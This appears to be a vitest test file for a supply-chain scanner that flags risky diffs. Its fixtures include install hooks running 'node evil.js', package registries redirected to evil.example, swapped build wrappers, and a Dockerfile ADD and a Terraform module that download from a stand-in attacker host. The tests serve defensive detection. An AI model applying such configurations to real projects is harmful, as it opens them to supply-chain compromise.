import { afterAll, describe, expect, it } from "vitest";
import { readPins } from "../../src/app/read-action-pins.ts";
import { known } from "../../src/domain/known.ts";
import type { Tier } from "../../src/domain/risk.ts";
import { removeGitRepositories } from "../support/git-repository.ts";
import { bypass } from "./catalogue.ts";
import { areasOf, isAtLeast, judgedLocally, suspicionsOf } from "./judged-locally.ts";

import { expectSuspicious, MANIFEST, npm } from "./manifests.ts";

afterAll(removeGitRepositories);

describe("files that bring in code", () => {
  it(bypass("DP-06"), async () => {
    const hook = (name: string) =>
      [
        name,
        { "package.json": npm() },
        { "package.json": npm({ scripts: { [name]: "node evil.js" } }) },
      ] as const;
    await expectSuspicious(
      [
        ...["preinstall", "install", "postinstall", "prepare"].map(hook),
        [
          "trustedDependencies",
          { "package.json": npm() },
          { "package.json": npm({ trustedDependencies: ["evil"] }) },
        ],
        [
          "onlyBuiltDependencies",
          { "package.json": npm() },
          { "package.json": npm({ pnpm: { onlyBuiltDependencies: ["evil"] } }) },
        ],
        [
          "ignore-scripts",
          { ".npmrc": "ignore-scripts=true\n" },
          { ".npmrc": "ignore-scripts=false\n" },
        ],
      ],
      "critical",
    );
    const programs: readonly (readonly [string, string, Tier])[] = [
      ["build.rs", "fn main() {}\n", "high"],
      ["build.rs", 'fn main() { std::process::Command::new("sh"); }\n', "critical"],
      ["setup.py", "import helper\n", "high"],
      ["setup.py", "import os\nos.system('x')\n", "critical"],
      ["ext/extconf.rb", "create_makefile('x')\n", "high"],
    ];
    for (const [path, text, tier] of programs) {
      const output = await judgedLocally({}, { [path]: text });
      expect([path, text, output.tier]).toEqual([path, text, tier]);
    }
  });

  it(bypass("DP-07"), async () => {
    const url = "https://evil.example/repo";
    await expectSuspicious([
      [".npmrc", {}, { ".npmrc": `registry=${url}\n` }],
      ["scope", {}, { "packages/a/.npmrc": `@acme:registry=${url}\n` }],
      [".yarnrc.yml", {}, { ".yarnrc.yml": `npmRegistryServer: "${url}"\n` }],
      ["pip.conf", {}, { "pip.conf": `[global]\nextra-index-url = ${url}\n` }],
      [
        "requirements",
        { "requirements.txt": "a==1\n" },
        { "requirements.txt": `--extra-index-url ${url}\na==1\n` },
      ],
      [
        "cargo",
        {},
        {
          ".cargo/config.toml": `[source.crates-io]\nreplace-with = "evil"\n[source.evil]\nregistry = "${url}"\n`,
        },
      ],
      [
        "maven",
        {},
        {
          "pom.xml": `<project><repositories><repository><id>e</id><url>${url}</url></repository></repositories></project>\n`,
        },
      ],
      ["bundler", { Gemfile: "source 'https://rubygems.org'\n" }, { Gemfile: `source '${url}'\n` }],
      [
        "nuget",
        {},
        {
          "nuget.config": `<configuration><packageSources><add key="e" value="${url}" /></packageSources></configuration>\n`,
        },
      ],
    ]);
  });

  it(bypass("DP-08"), async () => {
    const before = { "package.json": MANIFEST };
    await expectSuspicious([
      [
        "overrides",
        before,
        {
          "package.json": npm({
            dependencies: { "left-pad": "1.3.0" },
            overrides: { "left-pad": "1.2.0" },
          }),
        },
      ],
      [
        "resolutions",
        before,
        {
          "package.json": npm({
            dependencies: { "left-pad": "1.3.0" },
            resolutions: { "left-pad": "1.2.0" },
          }),
        },
      ],
      [
        "alias",
        before,
        { "package.json": npm({ dependencies: { "left-pad": "npm:evil@1.0.0" } }) },
      ],
      [
        "patched",
        before,
        {
          "package.json": npm({
            dependencies: { "left-pad": "1.3.0" },
            pnpm: { patchedDependencies: { "left-pad@1.3.0": "patches/a.patch" } },
          }),
        },
      ],
      [
        "patch",
        { ...before, "patches/left-pad+1.3.0.patch": "a\n" },
        { "patches/left-pad+1.3.0.patch": "b\n" },
      ],
    ]);
  });

  it(bypass("DP-09"), async () => {
    const wrapper = (host: string): string =>
      `distributionUrl=https\\://${host}/gradle-8.0-bin.zip\n`;
    const at = "gradle/wrapper/gradle-wrapper";
    await expectSuspicious(
      [
        [
          "yarnPath",
          { ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.0.0.cjs\n" },
          { ".yarnrc.yml": "yarnPath: .yarn/releases/evil.cjs\n" },
        ],
        [
          "yarn release",
          { ".yarn/releases/yarn-4.0.0.cjs": "1\n" },
          { ".yarn/releases/yarn-4.0.0.cjs": "2\n" },
        ],
        [
          "gradle",
          { [`${at}.properties`]: wrapper("services.gradle.org/distributions") },
          { [`${at}.properties`]: wrapper("evil.example") },
        ],
        ["wrapper jar", { [`${at}.jar`]: "\u0000a" }, { [`${at}.jar`]: "\u0000b" }],
        [".pnp.cjs", { ".pnp.cjs": "1\n" }, { ".pnp.cjs": "2\n" }],
        ["gradlew", { gradlew: "#!/bin/sh\n" }, { gradlew: "#!/bin/sh\nexec java\n" }],
        [
          "packageManager",
          { "package.json": npm({ packageManager: "pnpm@9.1.0" }) },
          { "package.json": npm({ packageManager: "evil@9.1.0" }) },
        ],
        [
          "packageManager without its hash",
          { "package.json": npm({ packageManager: "pnpm@9.1.0+sha512.aa" }) },
          { "package.json": npm({ packageManager: "pnpm@9.2.0" }) },
        ],
      ],
      "critical",
    );
  });

  it(bypass("DP-10"), async () => {
    const workflow = (ref: string): string =>
      `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${ref}\n`;
    const sha = "a".repeat(40);
    const path = ".github/workflows/a.yml";
    const loosened = await judgedLocally({ [path]: workflow(sha) }, { [path]: workflow("v4") });
    expect(areasOf(loosened)).toEqual(expect.arrayContaining(["ci"]));
    expect(isAtLeast(loosened.tier, "high")).toBe(true);
    expect(suspicionsOf(loosened).length).toBeGreaterThan(0);
    const moved = await judgedLocally(
      { [path]: workflow(sha) },
      { [path]: workflow("b".repeat(40)) },
    );
    expect(isAtLeast(moved.tier, "high")).toBe(true);
    // Where there is GitHub to ask, it is asked; the whole way is in test/e2e/action-commits.test.ts.
    const purl = "pkg:githubactions/actions/checkout";
    const none = { added: [], removed: [], suspicious: [], unreadable: [], direct: [], places: [] };
    const { suspicious } = await readPins(
      { readActionCommit: () => Promise.resolve(known(false)) },
      { ...none, changed: [{ purl, from: sha, to: "b".repeat(40) }] },
    );
    expect(suspicious).toMatchObject([{ code: "foreign-commit", subject: purl }]);
  });

  it(bypass("DP-11"), async () => {
    const pinned = `FROM node:20@sha256:${"a".repeat(64)}\n`;
    await expectSuspicious([
      ["digest dropped", { Dockerfile: pinned }, { Dockerfile: "FROM node:20\n" }],
      [
        "download",
        { Dockerfile: pinned },
        { Dockerfile: `${pinned}ADD https://evil.example/x.tgz /x\n` },
      ],
      [
        "module",
        { "main.tf": 'module "a" {\n  source = "./a"\n}\n' },
        { "main.tf": 'module "a" {\n  source = "git::https://evil.example/a"\n}\n' },
      ],
    ]);
    for (const [path, before, after] of [
      ["Dockerfile", "FROM node:20\n", "FROM node:21\n"],
      [
        "compose.yml",
        "services:\n  a:\n    image: a:1\n",
        "services:\n  a:\n    image: evil/a:1\n",
      ],
      [
        "Chart.yaml",
        "apiVersion: v2\nname: a\nversion: 1.0.0\n",
        "apiVersion: v2\nname: a\nversion: 1.0.0\ndependencies:\n  - name: x\n    version: 1.0.0\n    repository: https://evil.example\n",
      ],
    ] as const) {
      const output = await judgedLocally({ [path]: before }, { [path]: after });
      expect([path, isAtLeast(output.tier, "high")]).toEqual([path, true]);
    }
  });

  it(bypass("DP-12"), async () => {
    const paths = [
      "foo.lock",
      "foo.lock.toml",
      "custom-lock.json",
      "requirements-prod.txt",
      "deno.lock",
      "flake.lock",
    ];
    for (const path of paths) {
      const output = await judgedLocally({ [path]: "a = 1\n" }, { [path]: "b = 2\n" });
      expect([path, isAtLeast(output.tier, "high")]).toEqual([path, true]);
    }
  });
});
